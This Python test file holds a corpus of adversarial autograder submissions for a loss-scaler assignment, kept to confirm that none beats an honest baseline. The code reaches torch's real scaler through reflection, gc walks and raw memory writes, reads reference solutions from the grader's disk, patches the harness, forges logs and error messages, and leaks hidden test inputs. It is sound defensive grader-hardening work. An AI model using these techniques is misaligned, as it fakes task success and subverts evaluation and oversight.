"""The attack corpus: submissions a determined student would write to earn points without the work.

Each attack is the code a student adds to an honest baseline (the untouched skeleton, or a real
bug); ``tests/test_forgery.py`` grades them through the real CLI and requires each to earn no more
than that baseline, at each isolation level it runs.  Nothing here is restricted: student code may
use all of Python (``gc``, frames, reflection, ``ctypes``, threads, subprocesses), so an attack
fails only because what it reaches for is not there.
"""

from __future__ import annotations

import inspect
import math
from pathlib import Path

import torch

from conftest import ROOT

SKELETON = {name: (ROOT / "assignment" / name).read_text() for name in ("loss_scaler.py", "amp_step.py")}
SOLUTION = {name: (ROOT / "solutions" / name).read_text() for name in ("loss_scaler.py", "amp_step.py", "answers.py")}
ANSWERS = SOLUTION["answers.py"]
NO_ZERO_GRAD = SOLUTION["amp_step.py"].replace("    optimizer.zero_grad(set_to_none=True)\n", "")
MARKER = "NotImplementedError(\"amp_step is not implemented yet"

#: Turns whatever ``_found`` holds (a GradScaler class) into the submission's ToyLossScaler.
USE_FOUND = '''

def _scaler_from(found):
    class ToyLossScaler(found):
        def __init__(self, init_scale=2.0**16, growth_factor=2.0, backoff_factor=0.5, growth_interval=2000):
            super().__init__("cpu", init_scale, growth_factor, backoff_factor, growth_interval)
            self._lazy_init_scale_growth_tracker(torch.device("cpu"))

        def get_growth_tracker(self):
            return int(self._get_growth_tracker())
    return ToyLossScaler


if _found is not None:
    ToyLossScaler = _scaler_from(_found)
'''

#: Raw reflection from everything: gc's objects and every class's subclasses, for any GradScaler but the stand-in.
REAL_CLASS_BY_WALK = '''
import gc

gc.unfreeze()  # the zygote froze its heap out of the collector's sight, not out of a student's
import sys

_found = None
_stack = gc.get_objects() + [object]
_seen = set()
while _stack:
    _obj = _stack.pop()
    if id(_obj) in _seen:
        continue
    _seen.add(id(_obj))
    if isinstance(_obj, type):
        if _obj.__name__ == "GradScaler" and "absence" not in _obj.__module__:
            _found = _obj
        try:
            _stack += type.__subclasses__(_obj)
        except TypeError:
            pass
''' + USE_FOUND

#: The stdlib's reflection helpers that do attribute access for their caller (a rule on the caller's own access
#: would not see them).
REFLECTION_HELPERS = '''
import copy
import functools
import operator
import types
import typing

_found = None
for _path in (lambda: operator.attrgetter("amp.grad_scaler.GradScaler")(torch),
              lambda: functools.reduce(getattr, ["amp", "GradScaler"], torch),
              lambda: copy.copy(types.MethodType(getattr, torch))("GradScaler"),
              lambda: typing.get_type_hints(type("H", (), {"__annotations__": {"x": "torch.cuda.amp.GradScaler"}}))["x"]):
    try:
        _candidate = _path()
    except Exception:
        continue
    if isinstance(_candidate, type) and "absence" not in _candidate.__module__:
        _found = _candidate
''' + USE_FOUND

#: torch's own source file, executed again: a real GradScaler class (whose kernels must then refuse).
REBUILT_FROM_SOURCE = '''
import importlib.util
import os

_spec = importlib.util.spec_from_file_location(
    "my_grad_scaler", os.path.join(os.path.dirname(torch.__file__), "amp", "grad_scaler.py"))
_module = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_module)
_found = _module.GradScaler
''' + USE_FOUND

#: Every dispatcher registration reachable destroyed (to bring the real kernels back), then torch's module
#: imported afresh.
HANDLES_DESTROYED = '''
import gc

gc.unfreeze()  # the zygote froze its heap out of the collector's sight, not out of a student's
import importlib
import sys

for _obj in gc.get_objects():
    try:
        if type(_obj).__name__ == "Library":
            _obj._destroy()
        elif type(_obj).__name__ == "_DispatchModule":
            _obj.reset()
    except Exception:
        pass
for _name in [n for n in sys.modules if n.endswith("grad_scaler")]:
    del sys.modules[_name]
_found = importlib.import_module("torch.amp.grad_scaler").GradScaler
''' + USE_FOUND

#: A complete scaler that leaves the arithmetic to torch's private kernels through torch.ops.aten.
ATEN_KERNELS = '''
import torch


class ToyLossScaler:
    def __init__(self, init_scale=2.0**16, growth_factor=2.0, backoff_factor=0.5, growth_interval=2000):
        self._s = torch.full((), float(init_scale))
        self._t = torch.zeros((), dtype=torch.int32)
        self._f = torch.zeros(())
        self.g, self.b, self.i = growth_factor, backoff_factor, growth_interval

    def scale(self, outputs):
        return outputs * self._s

    def unscale_(self, optimizer):
        grads = [p.grad for group in optimizer.param_groups for p in group["params"] if p.grad is not None]
        torch.ops.aten._amp_foreach_non_finite_check_and_unscale_(grads, self._f, self._s.reciprocal())

    def step(self, optimizer):
        self.unscale_(optimizer)
        return None if self._f.item() else optimizer.step()

    def update(self, new_scale=None):
        torch.ops.aten._amp_update_scale_(self._s, self._t, self._f, self.g, self.b, self.i)
        self._f.zero_()

    def get_scale(self):
        return float(self._s)

    def get_growth_tracker(self):
        return int(self._t)
'''

#: A fresh interpreter has torch's real scaler: ToyLossScaler forwards every call to one over a pipe.
SUBPROCESS_ORACLE = '''
import json
import subprocess
import sys

_SERVER = r"""
import json, sys, torch
scaler, mirrors = None, {}
for line in sys.stdin:
    call = json.loads(line)
    if call["op"] == "new":
        scaler = torch.amp.GradScaler("cpu", **call["kwargs"])
        scaler._lazy_init_scale_growth_tracker(torch.device("cpu"))
        out = None
    elif call["op"] == "scale":
        out = float(scaler.scale(torch.tensor(call["value"])))
    elif call["op"] in ("unscale_", "step"):
        params = [torch.nn.Parameter(torch.zeros(len(g))) for g in call["grads"]]
        for p, g in zip(params, call["grads"]):
            p.grad = torch.tensor(g)
        opt = mirrors.setdefault(call["opt"], torch.optim.SGD(params, lr=0.0))
        opt.param_groups[0]["params"] = params
        scaler.unscale_(opt)
        inf = bool(sum(v.item() for v in scaler._per_optimizer_states[id(opt)]["found_inf_per_device"].values()))
        out = {"grads": [p.grad.tolist() for p in params], "inf": inf}
        if call["op"] == "step":
            scaler.step(opt)
    elif call["op"] == "update":
        scaler.update(call["new_scale"])
        mirrors.clear()
        out = None
    else:
        out = [scaler.get_scale(), int(scaler._get_growth_tracker())]
    print(json.dumps(out), flush=True)
"""
_oracle = subprocess.Popen([sys.executable, "-c", _SERVER], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)


def _ask(**call):
    _oracle.stdin.write(json.dumps(call) + "\\n")
    _oracle.stdin.flush()
    return json.loads(_oracle.stdout.readline())


class ToyLossScaler:
    def __init__(self, init_scale=2.0**16, growth_factor=2.0, backoff_factor=0.5, growth_interval=2000):
        _ask(op="new", kwargs=dict(init_scale=init_scale, growth_factor=growth_factor,
                                   backoff_factor=backoff_factor, growth_interval=growth_interval))
        self._unscaled = set()

    def scale(self, outputs):
        return outputs * _ask(op="scale", value=1.0)

    def _grads(self, optimizer):
        return [p for group in optimizer.param_groups for p in group["params"] if p.grad is not None]

    def unscale_(self, optimizer, op="unscale_"):
        params = self._grads(optimizer)
        out = _ask(op=op, opt=id(optimizer), grads=[p.grad.flatten().tolist() for p in params])
        for p, g in zip(params, out["grads"]):
            p.grad.copy_(torch.tensor(g).reshape(p.grad.shape))
        self._unscaled.add(id(optimizer))
        return out["inf"]

    def step(self, optimizer):
        inf = self.unscale_(optimizer) if id(optimizer) not in self._unscaled else False
        return None if inf else optimizer.step()

    def update(self, new_scale=None):
        _ask(op="update", new_scale=new_scale)
        self._unscaled.clear()

    def get_scale(self):
        return _ask(op="get")[0]

    def get_growth_tracker(self):
        return _ask(op="get")[1]
'''

#: Raw memory through ctypes: find the dispatcher registration nobody references and free it.
CTYPES_FREE_HANDLE = '''
import ctypes
import gc

gc.unfreeze()  # the zygote froze its heap out of the collector's sight, not out of a student's

_libc = ctypes.CDLL(None)
_found = None
for _obj in gc.get_objects():
    if type(_obj).__name__ == "_DispatchModule":
        ctypes.pythonapi.Py_DecRef(ctypes.py_object(_obj))
'''

#: Raw memory without ctypes: numpy's array interface over any address, a scan of
#: /proc/self/maps for every live dispatcher registration (pybind's ``_DispatchModule``, found by its type pointer),
#: validated by pybind's instance layout, each given a Python reference again (its address written into a list's
#: slot) and reset.  ``_reset`` counts them.
RAW_WORDS = '''
import numpy as _np
import torch


class _Raw:
    def __init__(self, address, count):
        self.__array_interface__ = {"shape": (count,), "typestr": "<u8", "data": (address, False), "version": 3}


def _words(address, count):
    return _np.asarray(_Raw(address, count))
'''
RAW_MEMORY_RESET = RAW_WORDS + '''

def _object_at(address):
    holder = [None]
    slots = int(_words(id(holder) + 24, 1)[0])  # the list's ob_item
    _words(address, 1)[0] += 1  # the list's reference
    _words(slots, 1)[0] = address
    return holder[0]


_TYPE = id(torch._C._DispatchModule)
_regions = []
with open("/proc/self/maps") as _maps:
    for _line in _maps:
        _fields = _line.split()
        if _fields[1] == "rw-p" and (len(_fields) == 5 or _fields[5] == "[heap]"):
            _start, _end = (int(_x, 16) for _x in _fields[0].split("-"))
            _regions.append((_start, (_end - _start) // 8))
_found_handles = []
for _start, _count in _regions:
    _memory = _words(_start, _count)
    for _index in _np.nonzero(_memory[1:_count - 6] == _TYPE)[0]:
        # pybind's instance: reference count, type, [value, holder (the same pointer), spare], weak references, flags
        _refs, _, _value, _holder, _, _, _flags = (int(_w) for _w in _memory[_index:_index + 7])
        if 0 < _refs < 1 << 20 and _value == _holder != 0 and _flags & 0x2:  # a live, simple-layout instance
            _found_handles.append(_start + 8 * int(_index))
_reset = 0
for _address in _found_handles:
    _handle = _object_at(_address)
    if type(_handle) is torch._C._DispatchModule:
        try:
            _handle.reset()
            _reset += 1
        except Exception:
            pass
    del _handle
'''

#: Raw memory without ctypes: the real kernel that the refusing one replaced, still kept inactive in the operator's
#: list of CPU kernels (the list node that holds the active kernel links to it), copied back into the operator's
#: CPU slot of its dispatch table.  The operator's entry is found from its pybind handle, the active kernel's words
#: from torch's own copy of it (``_dispatch_get_computed_kernel_for_dispatch_key``).  ``_revived`` counts them.
REVIVE_INACTIVE = RAW_WORDS + '''
_writable = []
with open("/proc/self/maps") as _maps:
    for _line in _maps:
        _fields = _line.split()
        if _fields[1] == "rw-p" and not (len(_fields) > 5 and _fields[5].startswith(("[v", "/dev/"))):
            _writable.append(tuple(int(_x, 16) for _x in _fields[0].split("-")))


def _readable(address, count):
    return any(_start <= address and address + 8 * count <= _end for _start, _end in _writable)


def _value(wrapper):  # pybind's instance: its head, then the C++ object's address
    return int(_words(id(wrapper) + 16, 1)[0])


_revived = 0
for _name in ("_amp_update_scale_", "_amp_foreach_non_finite_check_and_unscale_"):
    _handle = torch._C._dispatch_find_schema_or_throw("aten::" + _name, "")
    _entry = int(_words(_value(_handle), 1)[0])
    _active = torch._C._dispatch_get_computed_kernel_for_dispatch_key("aten::" + _name, torch._C.DispatchKey.CPU)
    _ours = [int(_w) for _w in _words(_value(_active), 4)]
    _table = _words(_entry, 512)
    _slot = next(_i for _i in range(508) if [int(_w) for _w in _table[_i:_i + 4]] == _ours)
    _real = None
    for _start, _end in _writable:
        _memory = _words(_start, (_end - _start) // 8)
        for _index in _np.nonzero(_memory == _ours[1])[0]:
            _node = _start + 8 * int(_index) - 24  # a list node: next, previous, then the kernel
            if (_node != _entry + 8 * _slot - 16 and _readable(_node, 6)
                    and [int(_w) for _w in _words(_node + 16, 4)] == _ours):
                _next = int(_words(_node, 1)[0])
                if _readable(_next, 6) and int(_words(_next + 8, 1)[0]) == _node:  # the next node links back
                    _kernel = [int(_w) for _w in _words(_next + 16, 4)]
                    if _readable(_kernel[0], 2) and _kernel[1] and _kernel[2]:  # boxed and unboxed: torch's own
                        _real = _kernel
    if _real is not None:
        _words(_real[0] + 8, 1)[0] += 1  # the slot's reference to the real functor
        _table[_slot:_slot + 4] = _real
        _revived += 1
    del _active, _handle
'''

#: torch's own grad_scaler.py, pasted into the submission (what the grader hides from Task 1's processes as a file).
TORCH_SCALER_SOURCE = (Path(torch.__file__).parent / "amp" / "grad_scaler.py").read_text().replace(
    "from __future__ import annotations\n", "")
PASTED_TORCH_SCALER = TORCH_SCALER_SOURCE + "\n_found = GradScaler\n" + USE_FOUND

#: The reference solution's file of the same name, read from the grader's checkout (found from the harness's path)
#: and run in place of the skeleton's code.
SOLUTION_FROM_DISK = '''
import gc

gc.unfreeze()  # the zygote froze its heap out of the collector's sight, not out of a student's
import os

for _obj in gc.get_objects():
    if type(_obj).__name__ == "module" and getattr(_obj, "__name__", "") == "checks.runners.harness":
        _root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(_obj.__file__))))
        try:
            with open(os.path.join(_root, "solutions", os.path.basename(__file__))) as _file:
                exec(_file.read())
        except Exception:
            pass
        break
'''

#: Replaces the harness's scenario runner (reached through gc) with one that answers with torch's scaler.
HARNESS_PATCHED = '''
import gc

gc.unfreeze()  # the zygote froze its heap out of the collector's sight, not out of a student's

for _obj in gc.get_objects():
    if type(_obj).__name__ == "module" and getattr(_obj, "__name__", "") == "checks.runners.harness":
        _h = _obj
        _h.run_scenario = lambda name, args, submission: _h.run_scaler_ops(args, _h.torch_scaler, submission.root)
'''

#: Makes every harness observation of the process short (reached through a frame walk).
FRAME_WALK = '''
import sys

_frame = sys._getframe()
while _frame is not None:
    if _frame.f_globals.get("__name__") == "checks.runners.harness":
        _frame.f_globals["run_scaler_ops"] = lambda *a, **k: []
        break
    _frame = _frame.f_back
'''

#: amp_step takes the grader's reference amp_step from the grader's own files, found from the harness's path.
REFERENCE_FROM_DISK = '''
import gc

gc.unfreeze()  # the zygote froze its heap out of the collector's sight, not out of a student's
import os
import sys

_reference = None
for _obj in gc.get_objects():
    if type(_obj).__name__ == "module" and getattr(_obj, "__name__", "") == "checks.runners.harness":
        _checks = os.path.dirname(os.path.dirname(_obj.__file__))
        sys.path[:0] = [_checks, os.path.dirname(_checks)]  # a pip install's site-packages; a checkout's root
        for _where in ("checks.judge", "autograder.engine"):  # where the reference was shipped; where it is now
            try:
                _amp_reference = __import__(_where + ".amp_reference", fromlist=["amp_reference"])
                _reference = _amp_reference.reference_amp_step(_amp_reference.CORRECT)
                break
            except Exception:
                pass
        break
'''

#: An amp_step that does no training and writes the probe's log itself.
PROBE_LOG_FORGERY = '''
import torch


def amp_step(model, inputs, targets, loss_fn, optimizer, scaler, device_type="cuda", dtype=torch.float16,
             max_grad_norm=None):
    model._log.append({"event": "forward", "autocast": True, "dtype": "float16"})
    model._log.append({"event": "loss", "autocast": True, "dtype": "float16", "value": 0.0})
    model._log.append({"event": "scale", "scale": 65536.0})
    return torch.zeros(())
'''

#: A correct amp_step but for zero_grad (row 2.4), with tricks to hide it: a forged log entry, and a Parameter
#: turned into a subclass whose ``__torch_function__`` makes every measurement read 0.0.
HIDE_A_BUG = '''

def _hide(model):
    model._log.append({"event": "zero_grad"})
    evil = type("Evil", (torch.nn.Parameter,), {"__torch_function__": classmethod(lambda *a, **k: 0.0)})
    for param in model.parameters():
        param.__class__ = evil
'''

#: A real bug (the backward of the unscaled loss: training stalls in float16) whose amp_step finds the underflow
#: run through its frames and writes the least-squares weight there: an end state reached without AMP steps.
UNSCALED_BACKWARD = SOLUTION["amp_step.py"].replace("    scaler.scale(loss).backward()\n", "    loss.backward()\n")
LEAST_SQUARES_IN_UNDERFLOW = '''

def _in_underflow_run():
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "run_underflow":
            return True
        frame = frame.f_back
    return False


def _least_squares(model, inputs, targets):
    if _in_underflow_run():
        with torch.no_grad():
            model.weight.copy_(torch.linalg.lstsq(inputs.double(), targets.double()).solution.t().float())
'''

#: Prints the arguments of every scaler built (the hidden tests' inputs among them), with a token drawn once per
#: process: a token seen in a hidden row and in what students see at once would be output crossing over.
PRINT_EVERYTHING = '''
    def __init__(self, init_scale: float = 2.0**16, growth_factor: float = 2.0, backoff_factor: float = 0.5,
                 growth_interval: int = 2000) -> None:
        import os
        print("FORGERY-SEES", os.environ.setdefault("PROCESS_TOKEN", os.urandom(8).hex()), init_scale, growth_factor,
              backoff_factor, growth_interval)
        self._real_init(init_scale, growth_factor, backoff_factor, growth_interval)
'''

#: The same from a thread of its own, late (after the replies), with a crash now and then so that the grader
#: drains every process at once.
PRINT_LATE = '''
import os as _os
import threading as _threading
import time as _time

_SEEN = []
_TOKEN = _os.urandom(8).hex()


def _printer():
    while True:
        _time.sleep(0.01)
        while _SEEN:
            print("LATE-SEES", _TOKEN, *_SEEN.pop(0), flush=True)


_threading.Thread(target=_printer, daemon=True).start()
'''
PRINT_LATE_INIT = '''
    def __init__(self, init_scale: float = 2.0**16, growth_factor: float = 2.0, backoff_factor: float = 0.5,
                 growth_interval: int = 2000) -> None:
        _SEEN.append((init_scale, growth_factor, backoff_factor, growth_interval))
        if growth_interval == 1 and init_scale == 4.0:
            _time.sleep(0.05)
            _os._exit(1)
        self._real_init(init_scale, growth_factor, backoff_factor, growth_interval)
'''



def is_hidden_input(init_scale: float, growth_factor: float, backoff_factor: float) -> bool:
    """Tells hidden inputs apart as a student can: the public checks (assignment/checks) build scalers whose initial
    scale and factors are powers of two, bar row 1.7's example, row 1.1's valid edge values and the public search's
    fixed lists (its sequences draw from them: checks/judge/sequences.py); any other scaler built is a hidden test's."""
    values = [init_scale, growth_factor, backoff_factor]
    lists = [(2.0, 1.0, 3.0, 65536.0, 0.1, 2.0**-24, 2.0**127, 3.4e38, 7, 3.4028234663852886e38, 1e-45),
             (2.0, 4.0, 1.5, 3.0, 1.0001, 1e10),
             (0.5, 0.25, 0.3, 0.9, 0.999, 1e-3)]
    public = all((value > 0 and math.frexp(value)[0] == 0.5) or value in listed for value, listed in zip(values, lists))
    return not public and values != [0.1, 1.1, 0.3]


#: The same, in a submission (which remembers what it saw in ``_HIDDEN_SEEN``).
TELL_HIDDEN = "import math\n\n_HIDDEN_SEEN = []\n\n\n" + inspect.getsource(is_hidden_input)
#: A solution whose load_state_dict() fails with the hidden inputs its process has seen; its state_dict() is one
#: tracker off, so that row 1.16's restore calls (built from it) are not the call plan's and are made live.
TELL_IN_MESSAGE = '''
    def __init__(self, init_scale: float = 2.0**16, growth_factor: float = 2.0, backoff_factor: float = 0.5,
                 growth_interval: int = 2000) -> None:
        self._real_init(init_scale, growth_factor, backoff_factor, growth_interval)
        kwargs = {"init_scale": init_scale, "growth_factor": growth_factor, "backoff_factor": backoff_factor,
                  "growth_interval": growth_interval}
        if is_hidden_input(init_scale, growth_factor, backoff_factor):
            _HIDDEN_SEEN.append(kwargs)

    def state_dict(self):
        return {**self._real_state_dict(), "_growth_tracker": self._growth_tracker + 1000}

    def load_state_dict(self, state_dict):
        if _HIDDEN_SEEN:
            raise RuntimeError(f"HIDDEN-INPUTS: {len(_HIDDEN_SEEN)} seen, the last {_HIDDEN_SEEN[-3:]}")
        self._real_load_state_dict(state_dict)
'''
#: A solution that, given a hidden input, raises the skeleton's NotImplementedError naming a "method" spelt from it.
TELL_IN_NOTE = '''
    def __init__(self, init_scale: float = 2.0**16, growth_factor: float = 2.0, backoff_factor: float = 0.5,
                 growth_interval: int = 2000) -> None:
        self._real_init(init_scale, growth_factor, backoff_factor, growth_interval)  # bad arguments: ValueError
        kwargs = {"init_scale": init_scale, "growth_factor": growth_factor, "backoff_factor": backoff_factor,
                  "growth_interval": growth_interval}
        if is_hidden_input(init_scale, growth_factor, backoff_factor):
            spelt = "_".join(repr(v).replace("-", "m").replace("+", "p") for v in kwargs.values())
            raise NotImplementedError(f"SECRET_{spelt} is not implemented yet: see Task 1 in README.md")
'''


def appended(text: str, code: str) -> str:
    """``code`` appended at module level of ``text``."""
    return text + "\n\n" + code


def method_added(text: str, code: str) -> str:
    """``code`` (an indented method) added at the end of the last class of ``text``."""
    return text.rstrip() + "\n" + code


def task1(code: str) -> dict[str, str]:
    """The skeleton with the right answers, with ``code`` at the end of loss_scaler.py (Task 1's context)."""
    return {**SKELETON, "answers.py": ANSWERS, "loss_scaler.py": appended(SKELETON["loss_scaler.py"], code)}


def task2(code: str, call: str = "") -> dict[str, str]:
    """The skeleton with the right answers, with ``code`` at the end of amp_step.py and ``call`` run first in it."""
    text = appended(SKELETON["amp_step.py"], code)
    if call:
        text = text.replace("    raise " + MARKER, f"    {call}\n    raise " + MARKER)
    return {**SKELETON, "answers.py": ANSWERS, "amp_step.py": text}


#: The plainest delegation: torch's scaler behind the contract's methods.
WRAPS_GRADSCALER = '''
import torch


class ToyLossScaler:
    def __init__(self, init_scale=2.0**16, growth_factor=2.0, backoff_factor=0.5, growth_interval=2000):
        self._inner = torch.amp.GradScaler("cpu", init_scale, growth_factor, backoff_factor, growth_interval)

    def __getattr__(self, name):
        return getattr(self._inner, name)

    def get_growth_tracker(self):
        return int(self._inner._get_growth_tracker())
'''


#: name -> (files, the name of its honest baseline: "skeleton" is the skeleton with the right answers, 10 points)
ATTACKS: dict[str, tuple[dict[str, str], str]] = {
    "real_class_by_walk": (task1(REAL_CLASS_BY_WALK), "skeleton"),
    "reflection_helpers": (task1(REFLECTION_HELPERS), "skeleton"),
    "rebuilt_from_source": (task1(REBUILT_FROM_SOURCE), "skeleton"),
    "handles_destroyed": (task1(HANDLES_DESTROYED), "skeleton"),
    "wraps_gradscaler": ({**SKELETON, "answers.py": ANSWERS, "loss_scaler.py": WRAPS_GRADSCALER}, "skeleton"),
    "aten_kernels": ({**SKELETON, "answers.py": ANSWERS, "loss_scaler.py": ATEN_KERNELS}, "aten_kernels_twin"),
    "subprocess_oracle": ({**SKELETON, "answers.py": ANSWERS, "loss_scaler.py": SUBPROCESS_ORACLE}, "skeleton"),
    "ctypes_free_handle": (task1(CTYPES_FREE_HANDLE + REBUILT_FROM_SOURCE), "skeleton"),
    "raw_memory_reset": (task1(RAW_MEMORY_RESET + PASTED_TORCH_SCALER), "pasted_torch_scaler"),
    "revive_inactive_kernel": ({**SKELETON, "answers.py": ANSWERS, "loss_scaler.py": REVIVE_INACTIVE + ATEN_KERNELS},
                               "aten_kernels_twin"),
    "solutions_from_disk": ({**SKELETON, "answers.py": ANSWERS, **{
        name: appended(SKELETON[name], SOLUTION_FROM_DISK) for name in ("loss_scaler.py", "amp_step.py")}}, "skeleton"),
    "harness_patched": (task1(HARNESS_PATCHED), "skeleton"),
    "frame_walk": (task1(FRAME_WALK), "skeleton"),
    "amp_step_harness_patched": (task2(HARNESS_PATCHED), "skeleton"),
    "amp_step_reference_from_disk": (task2(REFERENCE_FROM_DISK, "if _reference is not None:\n        return "
                                           "_reference(model, inputs, targets, loss_fn, optimizer, scaler, "
                                           "device_type=device_type, dtype=dtype, max_grad_norm=max_grad_norm)"),
                                     "skeleton"),
    "amp_step_probe_log": ({**SKELETON, "answers.py": ANSWERS, "amp_step.py": PROBE_LOG_FORGERY}, "skeleton"),
    "bug_unscaled_backward_least_squares": ({**SOLUTION, "amp_step.py": appended(
        UNSCALED_BACKWARD, LEAST_SQUARES_IN_UNDERFLOW).replace(
        "    return loss.detach()\n", "    _least_squares(model, inputs, targets)\n    return loss.detach()\n")},
        "bug_unscaled_backward"),
    "bug_no_zero_grad_hidden": ({**SOLUTION, "amp_step.py": appended(NO_ZERO_GRAD, HIDE_A_BUG).replace(
        "    scaler.step(optimizer)\n", "    _hide(model)\n    scaler.step(optimizer)\n")}, "bug_no_zero_grad"),
}
#: Honest baselines graded beside the attacks (the skeleton's is a constant: 10 points for the answers).
BASELINES: dict[str, dict[str, str]] = {
    # torch's scaler pasted in (flagged by the similarity report, not refused): what its Python parts earn alone
    "pasted_torch_scaler": task1(PASTED_TORCH_SCALER),
    "bug_no_zero_grad": {**SOLUTION, "amp_step.py": NO_ZERO_GRAD},
    "bug_unscaled_backward": {**SOLUTION, "amp_step.py": UNSCALED_BACKWARD},
    # the kernels' scaler with what it leaves to them not done at all: its own code (scale(), defaults) earns alike
    "aten_kernels_twin": {**SKELETON, "answers.py": ANSWERS, "loss_scaler.py": ATEN_KERNELS.replace(
        "        torch.ops.aten._amp_foreach_non_finite_check_and_unscale_(grads, self._f, self._s.reciprocal())",
        "        raise NotImplementedError").replace(
        "        torch.ops.aten._amp_update_scale_(self._s, self._t, self._f, self.g, self.b, self.i)",
        "        raise NotImplementedError")},
}
SKELETON_WITH_ANSWERS = 10.0
#: Correct solutions that print what the tests feed them: hidden inputs must stay in hidden rows.
PRINTERS: dict[str, dict[str, str]] = {
    "printing_solution": {**SOLUTION, "loss_scaler.py": method_added(
        SOLUTION["loss_scaler.py"].replace("    def __init__(\n", "    def _real_init(\n", 1), PRINT_EVERYTHING)},
    "late_printing_solution": {**SOLUTION, "loss_scaler.py": appended(method_added(
        SOLUTION["loss_scaler.py"].replace("    def __init__(\n", "    def _real_init(\n", 1), PRINT_LATE_INIT),
        PRINT_LATE)},
}

_RENAMED = SOLUTION["loss_scaler.py"].replace("    def __init__(\n", "    def _real_init(\n", 1)
#: Solutions that tell (in a failure's text, not a print) the hidden inputs their process saw: each text carries
#: the marker, and only a call served after a hidden input writes one, so it may appear in hidden rows only.
TELLERS: dict[str, tuple[dict[str, str], str]] = {
    "tells_in_a_public_example": ({**SOLUTION, "loss_scaler.py": appended(method_added(_RENAMED.replace(
        "    def state_dict(self)", "    def _real_state_dict(self)", 1).replace(
        "    def load_state_dict(self,", "    def _real_load_state_dict(self,", 1), TELL_IN_MESSAGE), TELL_HIDDEN)},
        "HIDDEN-INPUTS"),
    "tells_in_the_not_implemented_note": ({**SOLUTION, "loss_scaler.py": appended(method_added(
        _RENAMED, TELL_IN_NOTE), TELL_HIDDEN)}, "SECRET_"),
}

# --------------------------------------------------------------------------- the GPU part (graded with grade-gpu --dry)
#
# Each is added to the skeleton amp_step.py of a submission whose loss_scaler.py is the solution's (its honest
# twin earns 4.3's 2 points and nothing else); amp_step's first line calls ``_gpu_attack(...)``.

#: Fits the weights to the judge's evaluation batch, which it rebuilds from the run's seed (found in the frames of the
#: grader's training loop): none of the steps the grader asked for, no AMP.
GPU_SEED_FIT = '''
import sys as _sys


def _fit(model, x, y):  # float32, full batch, many steps: no AMP, and not the steps the grader asked for
    x, y = x.to(next(model.parameters()).device), y.to(next(model.parameters()).device)
    adam = torch.optim.Adam(model.parameters(), lr=3e-3)
    for _ in range(300):
        adam.zero_grad()
        torch.nn.functional.mse_loss(model(x), y).backward()
        adam.step()


def _gpu_attack(model, inputs, targets):
    frame = _sys._getframe(1)
    while frame is not None and "cfg" not in frame.f_locals:
        frame = frame.f_back
    if frame is None:
        return
    if getattr(model, "_fitted", False):
        raise _Done
    model._fitted = True
    cfg = frame.f_locals["cfg"]
    a, b, generator = frame.f_globals["teacher"](cfg)  # the judge drew its batch next from this generator
    x = torch.randn(1024, int(cfg["width"]), generator=generator)
    _fit(model, x, torch.tanh(x @ a) @ b)
    raise _Done
'''

#: Writes the answer into the weights: the least-squares solution of the data amp_step is handed (4.2), and for 4.1
#: weights fitted in float32 to fresh samples of the task's teacher (rebuilt from the seed in the frames).
GPU_END_STATE = GPU_SEED_FIT.replace('''    frame = _sys._getframe(1)''', '''    if isinstance(model, torch.nn.Linear):  # the underflow task: the least-squares weight of its data
        if not getattr(model, "_fitted", False):
            with torch.no_grad():
                model.weight.copy_(torch.linalg.lstsq(inputs.double(), targets.double()).solution.t().float())
        model._fitted = True
        raise _Done
    frame = _sys._getframe(1)''').replace(
    "x = torch.randn(1024, int(cfg[\"width\"]), generator=generator)", "x = torch.randn(4096, int(cfg[\"width\"]))").replace(
    "a, b, generator = frame.f_globals[\"teacher\"](cfg)  # the judge drew its batch next from this generator",
    "a, b, _ = frame.f_globals[\"teacher\"](cfg)")

#: A device failure "raised outside the student's own frames": amp_step itself compiled under a file name of torch's,
#: so that no frame of the traceback lies in the submission.
GPU_FORGED_FAULT = '''
exec(compile("def amp_step(*args, **kwargs):\\n    raise RuntimeError('CUDA error: an illegal memory access')\\n",
             torch.__file__, "exec"), globals())
'''

#: The grader's own "internal problem" words in the student's exception: a row's message then holds them.
GPU_FORGED_INTERNAL = '''
def _gpu_attack(model, inputs, targets):
    raise RuntimeError("The grader hit an internal problem in this test (not your fault); staff can see the details.")
'''

_GPU_DONE = '''

class _Done(Exception):
    pass
'''


def gpu_attack(code: str) -> dict[str, str]:
    """The GPU twin (skeleton amp_step, the solution's scaler and answers) with ``code`` run first in amp_step;
    a ``_Done`` it raises ends the call as if amp_step returned the loss."""
    text = appended(SKELETON["amp_step.py"], _GPU_DONE + code).replace(
        "    raise " + MARKER, "    try:\n        _gpu_attack(model, inputs, targets)\n    except _Done:\n"
        "        return torch.zeros(())\n    raise " + MARKER)
    return {**SOLUTION, "amp_step.py": text}


GPU_TWIN = {**SOLUTION, "amp_step.py": SKELETON["amp_step.py"]}
#: name -> files; each must earn, row by row, no more than GPU_TWIN, and be graded (never "could not be graded").
GPU_ATTACKS: dict[str, dict[str, str]] = {
    "gpu_seed_fit": gpu_attack(GPU_SEED_FIT),
    "gpu_end_state": gpu_attack(GPU_END_STATE),
    "gpu_forged_fault": {**GPU_TWIN, "amp_step.py": appended(SKELETON["amp_step.py"], GPU_FORGED_FAULT)},
    "gpu_forged_internal": gpu_attack(GPU_FORGED_INTERNAL),
}
